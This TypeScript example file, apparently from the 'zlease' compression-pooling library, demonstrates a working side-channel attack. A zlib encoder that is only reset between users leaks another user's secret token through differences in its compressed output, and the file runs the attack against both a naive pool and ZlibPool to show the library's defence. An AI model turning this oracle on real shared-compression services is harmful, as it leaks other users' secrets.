/**
 * `npx tsx examples/oracle/oracle.ts`: why a reset does not clean an encoder. One user of a pool sees only its own output,
 * and reads a secret of another user, if the encoder is only reset between the two. On `ZlibPool` it reads nothing.
 *
 * zlib looks for matches by a hash of four bytes. At the last three bytes of a message, the fourth is a byte of the window that an
 * earlier message has left there. A match with an earlier `abc` of the message is found only if that byte is right too.
 */
import { constants, createDeflateRaw, deflateRawSync } from 'node:zlib';
import { ZlibPool } from 'zlease';

type Compress = (message: Buffer) => Promise<Buffer>;

const ALPHABET = 'abcdefghijklmnopqrstuvwxyz';
const SECRET = Array.from({ length: 6 }, () => ALPHABET[Math.floor(Math.random() * ALPHABET.length)]).join('');
/** Place of the secret in the message of the victim, in bytes. The attacker has to know it, or to try. */
const PLACE = 500;

const victim = Buffer.from(`{"name":"someone","token":"`.padStart(PLACE, ' ') + SECRET.padEnd(400, ' '));

/** Three bytes that are nowhere else in a message. Two of them, since hashes of different bytes may be the same. */
const MARKS = ['~|^', '|~_'];

/** A message that ends right before byte `place` of the window. It holds the mark and the guess, and ends with the mark. */
function probe(place: number, guess: string, mark: string): Buffer {
  // zlib finds no match with the first byte of a message.
  let text = `{{${mark}${guess}`;
  // Filler without a repetition, so that no other match is found.
  for (let i = 0; text.length < place - mark.length; i++) text += String.fromCharCode(33 + ((i * i * 7 + i) % 60));
  return Buffer.from(text + mark);
}

/** Returns the secret as far as the output of the probes tells it: that of a new encoder would be the same each time. */
async function attack(user: () => Compress): Promise<string> {
  let known = '';
  for (let at = PLACE; at < PLACE + SECRET.length; at++) {
    const compress = user();
    let found = '?';
    for (const guess of ALPHABET) {
      let hits = 0;
      for (const mark of MARKS) {
        const message = probe(at, guess, mark);
        await compress(victim);
        if (!(await compress(message)).equals(deflateRawSync(message))) hits += 1;
      }
      if (hits === MARKS.length) found = guess;
    }
    known += found;
  }
  return known;
}

/** A pool of one encoder, as it is often written: documented API, and a reset after each message. */
function resetOnly(): Compress {
  const encoder = createDeflateRaw();
  return async (message) => {
    encoder.write(message);
    await new Promise<void>((resolve) => encoder.flush(constants.Z_FINISH, resolve));
    const output: Buffer = encoder.read();
    encoder.reset();
    return output;
  };
}

const pool = new ZlibPool({ maxIdle: 1 });
const read = await attack(resetOnly);
console.log(`reset only: ${read === SECRET ? 'the secret' : read}`);
console.log(`zlease: ${await attack(() => (message) => pool.compress(message, 'deflate-raw'))}`);
const { created, reused } = pool.stats;
console.log(`${created} engine made, ${reused} times used again`);
